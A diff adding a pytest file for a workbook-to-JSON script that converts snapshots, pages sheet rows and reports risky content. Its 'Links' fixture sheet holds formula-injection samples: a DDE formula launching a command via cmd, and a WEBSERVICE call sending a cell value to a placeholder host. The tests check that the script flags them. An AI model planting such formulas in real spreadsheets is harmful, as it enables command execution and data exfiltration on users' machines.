@@ -1,0 +1,160 @@
+"""workbook_json.py: the open workbook as .xlsx, output sheets as rows, risky parts reported.
+Every case runs the script through runner.run with the pre-check on, as the pane does."""
+
+import datetime
+import json
+import os
+import zipfile
+
+import openpyxl
+from openpyxl.worksheet.table import Table
+
+import runner
+
+SCRIPT = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "workbook_json.py")
+
+
+def run_script(tmp_path, request, files=None):
+    input_dir, output_dir = tmp_path / "input", tmp_path / "output"
+    input_dir.mkdir(exist_ok=True)
+    (input_dir / "request.json").write_text(json.dumps(request), encoding="utf-8")
+    for name, write in (files or {}).items():
+        write(str(input_dir / name))
+    code = open(SCRIPT, encoding="utf-8").read()
+    code = code.replace('INPUT_DIR = "/input"', "INPUT_DIR = %r" % str(input_dir))
+    code = code.replace('OUTPUT_DIR = "/output"', "OUTPUT_DIR = %r" % str(output_dir))
+    result = runner.run(code, str(input_dir), str(output_dir))
+    assert result["ok"], result
+    return output_dir
+
+
+def json_file(value):
+    def write(path):
+        with open(path, "w", encoding="utf-8") as fh:
+            json.dump(value, fh)
+    return write
+
+
+SNAPSHOT = {
+    "version": 1,
+    "sheets": [
+        {
+            "name": "Sales",
+            "address": "B3:E6",
+            "startRow": 2,
+            "startColumn": 1,
+            "values": [
+                ["Region", "Date", "Share", "Amount"],
+                ["North", 45292, 0.25, 1200.5],
+                ["South", 45293.5, 0.5, None],
+                ["West", 45294, 0.25, 80],
+            ],
+            "formats": {"columns": [None, "yyyy-mm-dd", "0.0%", "$#,##0.00"], "cells": [[0, 1, None], [0, 2, None], [0, 3, None], [2, 1, "yyyy-mm-dd hh:mm"]]},
+            "tables": [{"name": "SalesTable", "address": "B3:E6", "headers": ["Region", "Date", "Share", "Amount"]}],
+        },
+        {"name": "Empty one", "address": None, "startRow": 0, "startColumn": 0, "values": [], "tables": []},
+    ],
+}
+
+
+def test_snapshot_becomes_an_xlsx_with_tables_formats_and_dates(tmp_path):
+    out = run_script(tmp_path, {"mode": "snapshot", "output": "Open workbook.xlsx"}, {"snapshot.json": json_file(SNAPSHOT)})
+    wb = openpyxl.load_workbook(out / "Open workbook.xlsx")
+    assert wb.sheetnames == ["Sales", "Empty one"]
+    ws = wb["Sales"]
+    assert ws["B3"].value == "Region" and ws["A1"].value is None
+    assert ws["C4"].value == datetime.datetime(2024, 1, 1)
+    assert ws["C5"].value == datetime.datetime(2024, 1, 2, 12, 0)
+    assert ws["C5"].number_format == "yyyy-mm-dd hh:mm"
+    assert ws["D4"].number_format == "0.0%" and ws["D4"].value == 0.25
+    assert ws["E4"].number_format == "$#,##0.00" and ws["E5"].value is None
+    assert ws["C3"].number_format == "General"
+    assert list(ws.tables) == ["SalesTable"]
+    assert ws.tables["SalesTable"].ref == "B3:E6"
+    assert [c.name for c in ws.tables["SalesTable"].tableColumns] == ["Region", "Date", "Share", "Amount"]
+
+
+def result_workbook(path):
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    ws.title = "Stacked"
+    ws.append(["Region", "Date", "Sales", "Note"])
+    for i in range(12):
+        ws.append(["North" if i % 2 else "South", datetime.datetime(2024, 1, 1 + i), i * 10.5, None if i == 3 else "n%d" % i])
+    for row in ws.iter_rows(min_row=2, min_col=2, max_col=2):
+        row[0].number_format = "dd/mm/yyyy"
+    ws.append([])
+    ws.append([])
+    ws.add_table(Table(displayName="Stacked", ref="A1:D13"))
+    other = wb.create_sheet("Links")
+    other["A1"] = '=WEBSERVICE("https://example.invalid/x?q="&A2)'
+    other["A2"] = "=SUM([1]Prices!A1:A4)"
+    other["A3"] = "=cmd|' /C calc'!A0"
+    other["A4"] = '=CONCAT("a|b", Table1[Col])'
+    other["A5"] = "=Stacked!C2*2"
+    wb.save(path)
+
+
+def test_rows_come_in_pages_with_typed_values_and_date_serials(tmp_path):
+    out = run_script(tmp_path, {"mode": "rows", "file": "result.xlsx", "sheet": "Stacked", "pageRows": 5},
+                     {"result.xlsx": result_workbook})
+    report = json.loads((out / "rows-report.json").read_text(encoding="utf-8"))
+    assert report["headers"] == ["Region", "Date", "Sales", "Note"]
+    assert report["rowCount"] == 12
+    assert [p["rows"] for p in report["pages"]] == [5, 5, 2]
+    assert report["numberFormats"] == [None, "dd/mm/yyyy", None, None]
+    assert report["types"] == ["text", "date", "number", "text"]
+    rows = []
+    for page in report["pages"]:
+        rows.extend(json.loads((out / page["name"]).read_text(encoding="utf-8")))
+    assert rows[0] == ["South", 45292, 0, "n0"]
+    assert rows[3] == ["North", 45295, 31.5, None]
+    assert len(rows) == 12
+
+
+def test_rows_report_flags_network_formulas_dde_and_external_references(tmp_path):
+    out = run_script(tmp_path, {"mode": "rows", "file": "result.xlsx", "sheet": "Stacked"}, {"result.xlsx": result_workbook})
+    report = json.loads((out / "rows-report.json").read_text(encoding="utf-8"))["report"]
+    flagged = {f["cell"]: f["reasons"] for f in report["networkFormulas"]}
+    assert flagged == {"A1": ["WEBSERVICE"], "A2": ["external reference"], "A3": ["DDE"]}
+    assert report["networkFormulaCount"] == 3
+    assert report["hasVba"] is False and report["externalLinks"] == []
+
+
+def test_asking_for_a_missing_sheet_names_the_sheets_there(tmp_path):
+    input_dir, output_dir = tmp_path / "input", tmp_path / "output"
+    input_dir.mkdir()
+    (input_dir / "request.json").write_text(json.dumps({"mode": "rows", "file": "r.xlsx", "sheet": "Nope"}))
+    result_workbook(str(input_dir / "r.xlsx"))
+    code = open(SCRIPT, encoding="utf-8").read().replace('"/input"', repr(str(input_dir))).replace('"/output"', repr(str(output_dir)))
+    result = runner.run(code, str(input_dir), str(output_dir))
+    assert not result["ok"]
+    assert "no sheet named 'Nope'" in result["error"]["message"] and "Stacked, Links" in result["error"]["message"]
+
+
+def with_parts(path):
+    """An xlsx that carries a vbaProject.bin and an external link part, as a macro workbook would."""
+    result_workbook(path + ".plain")
+    with zipfile.ZipFile(path + ".plain") as src, zipfile.ZipFile(path, "w") as dst:
+        for item in src.infolist():
+            dst.writestr(item, src.read(item.filename))
+        dst.writestr("xl/vbaProject.bin", b"\x00not really vba")
+        dst.writestr("xl/externalLinks/externalLink1.xml", "<externalLink/>")
+    os.remove(path + ".plain")
+
+
+def test_inspect_reports_vba_and_external_link_parts_per_file(tmp_path):
+    out = run_script(tmp_path, {"mode": "inspect", "files": ["macro.xlsm", "clean.xlsx"]},
+                     {"macro.xlsm": with_parts, "clean.xlsx": result_workbook})
+    reports = json.loads((out / "inspect-report.json").read_text(encoding="utf-8"))
+    assert [r["file"] for r in reports] == ["macro.xlsm", "clean.xlsx"]
+    assert reports[0]["hasVba"] is True
+    assert reports[0]["externalLinks"] == ["xl/externalLinks/externalLink1.xml"]
+    assert reports[1]["hasVba"] is False
+    assert reports[1]["sheets"] == ["Stacked", "Links"]
+    assert reports[1]["networkFormulaCount"] == 3
+
+
+def test_the_script_passes_the_pre_check():
+    import precheck
+    assert precheck.check(open(SCRIPT, encoding="utf-8").read()) == []
